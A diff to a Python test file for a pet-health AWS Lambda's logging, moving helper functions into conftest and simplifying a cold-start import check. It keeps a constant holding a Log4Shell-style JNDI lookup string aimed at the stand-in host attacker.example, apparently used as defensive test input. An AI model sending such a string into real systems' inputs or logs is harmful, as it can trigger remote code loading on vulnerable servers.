@@ -4,8 +4,6 @@ from __future__ import annotations
 
 import json
 import logging
-import subprocess
-import sys
 import warnings
 from collections.abc import Callable
 from typing import Any
@@ -14,15 +12,11 @@ import pytest
 
 from petsage_health import observability
 from petsage_health.models import HealthCheckResponse
-from tests.conftest import REPO_ROOT, load_event
+from tests.conftest import EVENTS_DIR, INVOKE_ONCE, load_event, records, run_in_fresh_interpreter
 
 Invoke = Callable[[Any], Any]
 Written = Callable[[], list[dict[str, Any]]]
 INJECTION = "${jndi:ldap://attacker.example/a}"
-
-
-def records(lines: list[dict[str, Any]], message: str = observability.REQUEST_RECORD) -> list[dict[str, Any]]:
-    return [line for line in lines if line.get("message") == message]
 
 
 def directive(record: dict[str, Any]) -> dict[str, Any]:
@@ -262,23 +256,9 @@ def test_sdk_loggers_write_only_warnings_in_the_functions_format(written: Writte
 def test_the_liveness_path_imports_neither_the_xray_sdk_nor_an_sdk_client() -> None:
     # A fresh interpreter, as a cold start: Tracer() or an SDK client would import them (~335 ms).
     # botocore's bare package (~0.5 ms) is imported by Powertools' user-agent hook; nothing below it.
-    script = (
-        "import json, sys\n"
-        "from app import lambda_handler\n"
-        "from types import SimpleNamespace\n"
-        "context = SimpleNamespace(function_name='HealthFunction', memory_limit_in_mb=1024,\n"
-        "    invoked_function_arn='arn:aws:lambda:eu-west-1:123456789012:function:HealthFunction',\n"
-        "    aws_request_id='c0ffee', get_remaining_time_in_millis=lambda: 5000)\n"
-        "event = json.load(open('events/health.json'))\n"
-        "assert lambda_handler(event, context)['statusCode'] == 200\n"
+    script = INVOKE_ONCE + (
+        "assert response['statusCode'] == 200\n"
         "print(json.dumps(sorted(m for m in sys.modules if m.startswith(('aws_xray_sdk', 'boto3', 'botocore.')))))\n"
     )
-    result = subprocess.run(
-        [sys.executable, "-c", script],
-        cwd=REPO_ROOT,
-        env={"PYTHONPATH": f"{REPO_ROOT / 'functions/health'}:{REPO_ROOT}", "PATH": ""},
-        capture_output=True,
-        text=True,
-        check=True,
-    )
+    result = run_in_fresh_interpreter(script, str(EVENTS_DIR / "health.json"), env={})
     assert json.loads(result.stdout.splitlines()[-1]) == []
